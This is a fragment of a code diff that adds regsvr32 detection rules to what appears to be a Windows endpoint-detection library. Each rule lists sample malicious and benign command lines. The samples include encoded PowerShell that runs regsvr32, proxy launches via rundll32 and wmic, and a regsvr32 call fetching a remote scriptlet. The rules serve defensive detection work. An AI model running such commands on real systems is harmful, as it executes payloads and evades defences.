+        "regsvr32 /s C:\\Users\\bob\\AppData\\Roaming\\Microsoft\\Gyeyuazitmie\\ixichv.dll",
+        "regsvr32 /s C:\\ProgramData\\Vendor\\x.dll",),
+      negatives=(
+        "regsvr32.exe /s C:\\Users\\Public\\payload.dll",
+        'regsvr32 /s "C:\\Program Files\\Oracle\\VirtualBox\\VBoxC.dll"',),
+      false_positives="Per-user installs (OneDrive, Teams add-ins, scoop), developers registering "
+                      "their own build output.")
+def app_folder(inv):
+    for m in inv.modules:
+        if m.location == winpath.USER_WRITABLE and not winpath.is_staging(m):
+            return "module %s is in a per-user or ProgramData application folder (%s)" % (
+                _clip(m.path), m.where)
+    return None
+
+
+@rule("R32-041", "Module at the root of a drive (mounted ISO, USB stick, C:\\)",
+      COMMAND_LINE, risk=60, family="suspicious_paths_and_disguised_extensions", evidence="location",
+      techniques=(T, "T1204.002"), sources=("L28", "Sigma d4ca7c59", "Elastic 8a1d4831"),
+      description=("The module sits right in the root of a drive: where a mounted ISO, IMG or VHD, or "
+                   "a USB stick, puts its files (often a bare name run with that root as the working "
+                   "directory), or C:\\ itself, where no installer puts a module."),
+      positives=(
+        "regsvr32 /s E:\\invoice.dll",
+        {"CommandLine": "regsvr32.exe msoffice32.dll", "CurrentDirectory": "E:\\"},
+        {"CommandLine": "regsvr32.exe /s \\GLdh1CKp.dll", "CurrentDirectory": "C:\\"},),
+      negatives=(
+        "regsvr32 /s E:\\files\\invoice.dll",
+        "regsvr32 /s C:\\Tools\\x.dll",
+        "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",))
+def drive_root(inv):
+    for m in inv.modules:
+        if m.location == winpath.OTHER_DRIVE and m.depth == 0:
+            return "module %s is in the root of %s (a mounted image or removable media?)" % (
+                _clip(m.path), m.where)
+        if m.location == winpath.OTHER and m.where == "drive root":
+            return "module %s is in the root of drive C:" % _clip(m.path)
+    return None
+
+
+@rule("R32-042", "regsvr32 started by PowerShell or an application runtime",
+      actor(PROCESS), risk=25, family="parent_lineage", evidence="lineage",
+      techniques=(T, "T1059.001"), sources=("L14", "Sigma ab37a6ec", "Splunk 4aa5d062"),
+      description=("Parent is PowerShell or a Java runtime. Low risk on its own: deployment tools "
+                   "(Intune, PSAppDeployToolkit, Chocolatey, scoop) and desktop applications start "
+                   "regsvr32 this way; with a payload-like module it raises the score."),
+      positives=(
+        {"CommandLine": "regsvr32 /s x.dll", "ParentImage": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"},),
+      negatives=(
+        "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",),
+      false_positives="Software deployment and package managers.")
+def runtime_parent(ev):
+    return _parent_in(ev, RUNTIME_PARENTS, "PowerShell or application runtime")
+
+
+@rule("R32-043", "Module in an unknown folder under System32 or SysWOW64",
+      COMMAND_LINE, risk=60, family="suspicious_paths_and_disguised_extensions", evidence="location",
+      techniques=(T, "T1036.005"), sources=("L10", "Elastic cff92c41"),
+      description=("A module in a subfolder of System32 or SysWOW64 that Windows and well-known "
+                   "components do not create: Emotet's hiding place (SysWOW64\\<random>\\<random>)."),
+      positives=(
+        'regsvr32.exe /s "C:\\Windows\\SysWOW64\\Dczxlqhzareouxx\\pmcm.tlv"',
+        "regsvr32.exe C:\\Windows\\system32\\XzEnFJsk\\NNZhBMftHKvliX.dll",),
+      negatives=(
+        "regsvr32 /s C:\\Windows\\System32\\RpcProxy\\RpcProxy.dll",
+        "regsvr32 /s C:\\Windows\\System32\\wbem\\wmidcprv.dll",
+        "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",))
+def system_subfolder(inv):
+    for m in inv.modules:
+        c = m.comps
+        if (m.location == winpath.WINDOWS and len(c) > 4 and c[1] == "windows"
+                and c[2] in ("system32", "syswow64") and c[3] not in SYSTEM_SUBFOLDERS):
+            return "module %s is in %s\\%s, a folder Windows does not create" % (
+                _clip(m.path), c[2].title(), c[3])
+    return None
+
+
+@rule("R32-044", "regsvr32 started by regsvr32 for another module (second stage)",
+      relaunch(), risk=70, family="children_of_regsvr32", evidence="behaviour",
+      techniques=(T,), sources=("L17", "Veramine"),
+      description=("regsvr32 started by regsvr32 with modules other than its parent's: the registered "
+                   "code launched a second stage. The 64-to-32-bit re-launch passes the same modules "
+                   "and stays quiet; without the parent's command line nothing is said."),
+      positives=(
+        {"CommandLine": 'regsvr32.exe /s "C:\\Windows\\SysWOW64\\Ntetq\\kmlysgkrktii.hwz"',
+         "ParentImage": "C:\\Windows\\SysWOW64\\regsvr32.exe",
+         "ParentCommandLine": "regsvr32.exe /s C:\\Users\\bob\\AppData\\Local\\Temp\\a.dll"},),
+      negatives=(
+        {"Image": "C:\\Windows\\SysWOW64\\regsvr32.exe", "CommandLine": "regsvr32 /s C:\\Tools\\a.dll",
+         "ParentImage": "C:\\Windows\\System32\\regsvr32.exe", "ParentCommandLine": "regsvr32 /s C:\\Tools\\a.dll"},
+        {"CommandLine": "regsvr32 /s C:\\Tools\\a.dll", "ParentImage": "C:\\Windows\\System32\\regsvr32.exe"},))
+def second_stage(ev):
+    if not ev.parent_command_line:
+        return None
+    parent = cmdline.parse(ev.parent_command_line, ev.parent_name, ev.cwd)
+    # by file name: the re-launch may write the same module with another path form
+    mine = set(m.name or m.lower for m in ev.invocation.modules)
+    if not mine or mine <= set(m.name or m.lower for m in parent.modules):
+        return None
+    return "regsvr32 started by regsvr32 for another module: %s (parent: %s)" % (
+        _clip(", ".join(sorted(mine)), 200), _clip(ev.parent_command_line, 200))
+
+
+def _regsvr32_in(text):
+    """(decoded text, where regsvr32 starts) of the first encoded PowerShell command that runs it."""
+    for decoded in cmdline.encoded_commands(text):
+        at = decoded.lower().find("regsvr32")
+        if at >= 0:
+            return decoded, at
+    return None, -1
+
+
+@rule("R32-045", "regsvr32 hidden in an encoded PowerShell command",
+      any_event(PROCESS, PERSISTENCE, REGISTRY), risk=80,
+      family="registry_persistence_and_scrobj_com_hijack", evidence="syntax",
+      techniques=(T, "T1027", "T1059.001"), sources=("L33", "Sigma 3a734d25"),
+      description=("A process, scheduled task, service or registry value whose PowerShell "
+                   "-EncodedCommand (any prefix: -e, -ec, -enc ...) decodes to a command that runs "
+                   "regsvr32; for regsvr32 itself, a parent started that way."),
+      positives=(
+        {"Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
+         "CommandLine": "powershell.exe -encodedCommand cgBlAGcAcwB2AHIAMwAyAC4AZQB4AGUAIAAiAEMAOgBcAFUAcwBlAHIAcwBcAEEAZABtAGkAbgBcAEEAcABwAEQAYQB0AGEAXABMAG8AYwBhAGwAXABUAGUAbQBwAFwAXwBLAEcATQAuAGQAbABsACIA"},
+        {"EventCode": "4698", "TaskContent": "<Exec><Command>powershell.exe</Command><Arguments>-NoP -ec cgBlAGcAcwB2AHIAMwAyACAALwBzACAAeAAuAGQAbABsAA==</Arguments></Exec>"},),
+      negatives=(
+        {"Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
+         "CommandLine": "powershell.exe -enc RwBlAHQALQBTAGUAcgB2AGkAYwBlAA=="},
+        {"EventCode": "4698", "TaskContent": "<Exec><Command>regsvr32.exe</Command></Exec>"},))
+def encoded_launch(ev):
+    for how, text in (("command line", ev.command_line), ("scheduled task", ev.task_content),
+                      ("service", ev.service_path), ("registry value", ev.registry_data),
+                      ("parent command line", ev.parent_command_line if ev.is_regsvr32 else "")):
+        if text:
+            decoded, at = _regsvr32_in(text)
+            if decoded is not None:
+                return "the %s holds an encoded PowerShell command that runs %s" % (
+                    how, _clip(decoded[at:], 200))
+    return None
+
+
+@rule("R32-046", "regsvr32 launched through a proxy program",
+      any_event(PROCESS), risk=65, family="parent_lineage", evidence="lineage",
+      techniques=(T, "T1218.011", "T1202"), sources=("LOLBAS", "Sigma 8a582fe2"),
+      description=("rundll32 ShellExec_RunDLL or FileProtocolHandler, wmic process call create, "
+                   "forfiles, pcalua, mshta script:, conhost --headless and other LOLBAS launchers "
+                   "asked to start regsvr32: indirect execution to break the process tree."),
+      positives=(
+        {"Image": "C:\\Windows\\System32\\rundll32.exe",
+         "CommandLine": '"C:\\Windows\\System32\\rundll32.exe" SHELL32 ShellExec_RunDLL regsvr32.exe -s "C:\\ProgramData\\Wwhm\\vsinzf.log"'},
+        {"Image": "C:\\Windows\\System32\\wbem\\WMIC.exe",
+         "CommandLine": "wmic process call create \"regsvr32 /s C:\\Users\\Public\\x.dll\""},),
+      negatives=(
+        {"Image": "C:\\Windows\\System32\\rundll32.exe",
+         "CommandLine": "rundll32.exe shell32.dll,Control_RunDLL desk.cpl regsvr32"},
+        {"Image": "C:\\Windows\\System32\\cmd.exe", "CommandLine": "cmd /c regsvr32 /s x.dll"},))
+def proxy_launch(ev):
+    if ev.is_regsvr32:
+        return None
+    low = ev.command_line.lower()
+    at = low.find("regsvr32")
+    if at < 0:
+        return None
+    for name, word in PROXIES:
+        if ev.image_name == name and word in low:
+            return "%s is asked to start regsvr32: %s" % (ev.image_name, _clip(ev.command_line[at:], 200))
+    return None
+
+
+@rule("R32-047", "/n /i: hands a code word to a module outside Windows and Program Files",
+      COMMAND_LINE, risk=45, family="implicit_dllregisterserver_and_odd_invocations",
+      evidence="invocation", techniques=(T,), sources=("L05", "Sigma b236190c", "Fibratus"),
+      description=("/n /i:<text> calls only the module's DllInstall with a string that is neither a "
+                   "path nor a URL, on a module outside Windows and Program Files: loaders take their "
+                   "run key or stage name this way. Vendors do too (Teams' /i:user is allowlisted)."),
+      positives=(
+        'regsvr32.exe -n -i:"Install" C:\\Users\\bob\\AppData\\Local\\AdobeFontPack\\main.dll',
+        "regsvr32 /s /n /i:QWERTY C:\\ProgramData\\x.dll",),
+      negatives=(
+        'regsvr32 /s /n /i:user "C:\\Program Files\\A\\b.dll"',
+        "regsvr32 /s /n /u /i:http://203.0.113.9/pay.sct scrobj.dll",
+        "regsvr32 /s C:\\ProgramData\\x.dll",))
+def code_word(inv):
+    if not inv.flags >= {"n", "i"} or inv.install_arg is None or inv.install is not None:
+        return None
+    for m in inv.modules:
+        if m.location not in winpath.TRUSTED_LOCATIONS:
+            return "/n /i:%s calls only DllInstall of %s (%s)" % (
+                _clip(inv.install_arg, 60), _clip(m.path), _where(m))
+    return None
+
+
+@rule("R32-048", "regsvr32 registered a module from outside the Windows folder",
+      COMMAND_LINE, risk=5, family="implicit_dllregisterserver_and_odd_invocations",
+      evidence="invocation", techniques=(T,), sources=("CAR-2019-04-002",),
+      description=("Informational: regsvr32 registered or unregistered a module that Windows did not "
+                   "ship, wherever it is. Never alerts on its own; it keeps every third-party "
+                   "registration visible to hunting and to the baseline."),
+      positives=(
+        'regsvr32 /s "C:\\Program Files (x86)\\VirtualAppliances\\app64\\VBoxC.dll"',),
+      negatives=(
+        "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",
+        "regsvr32 /s vbscript.dll",))
+def third_party_module(inv):
+    for m in inv.modules:
+        if m.location != winpath.WINDOWS:
+            return "registers %s (%s)" % (_clip(m.path), _where(m))
+    return None
+
+
+# Folders Microsoft software keeps under the profile's AppData\Local\Microsoft and
+# AppData\Roaming\Microsoft. Qakbot and IcedID make up others (Roaming\Microsoft\<random>).
+PROFILE_MICROSOFT_FOLDERS = frozenset((
+    "addins bibliography clicktorun credentials crypto document building blocks edge edge beta "
+    "edge dev edge sxs edgewebview excel feeds fontcache forms installer internet explorer mmc "
+    "media player network office olk onedrive onenote outlook powerpoint powershell proof "
+    "protect publisher queryengine signatures speech spelling stationery sticky notes "
+    "systemcertificates teams teamsmeetingaddin teamsmeetingadd-in teamspresenceaddin templates "
+    "uproof vault visualstudio visual studio windows windows live windows mail windowsapps "
+    "windows sidebar word xbox msix msixdeployment").split(" ")) | frozenset((
+        "document building blocks", "edge beta", "edge dev", "edge sxs", "internet explorer",
+        "media player", "sticky notes", "visual studio", "windows live", "windows mail",
+        "windows sidebar"))
+
+
+@rule("R32-049", "Module in a made-up folder under the profile's Microsoft folder",
+      COMMAND_LINE, risk=60, family="suspicious_paths_and_disguised_extensions", evidence="location",
+      techniques=(T, "T1036.005"), sources=("L09", "Elastic EP 5db08297"),
+      description=("A module in AppData\\Local\\Microsoft\\<folder> or AppData\\Roaming\\Microsoft\\<folder> "
+                   "where <folder> is none that Microsoft software creates: Qakbot's and IcedID's "
+                   "hiding place, named to look like part of Windows."),
+      positives=(
+        "regsvr32.exe -s C:\\Users\\mlopez\\AppData\\Roaming\\Microsoft\\Gyeyuazitmie\\ixichv.dll",),
+      negatives=(
+        "regsvr32 /s C:\\Users\\bob\\AppData\\Local\\Microsoft\\OneDrive\\23.1\\FileSyncShell64.dll",
+        "regsvr32 /s C:\\Users\\bob\\AppData\\Local\\Vendor\\x.dll",))
+def fake_microsoft_folder(inv):
+    for m in inv.modules:
+        c = m.comps
+        if (m.location == winpath.USER_WRITABLE and len(c) > 7 and c[1] == "users"
+                and c[3] == "appdata" and c[4] in ("local", "roaming") and c[5] == "microsoft"
+                and c[6] not in PROFILE_MICROSOFT_FOLDERS):
+            return "module %s is in AppData\\%s\\Microsoft\\%s, a folder no Microsoft software makes" % (
+                _clip(m.path), c[4].title(), c[6])
+    return None
 
 
 RULES, RULES_BY_ID, RULES_FOR = finish()
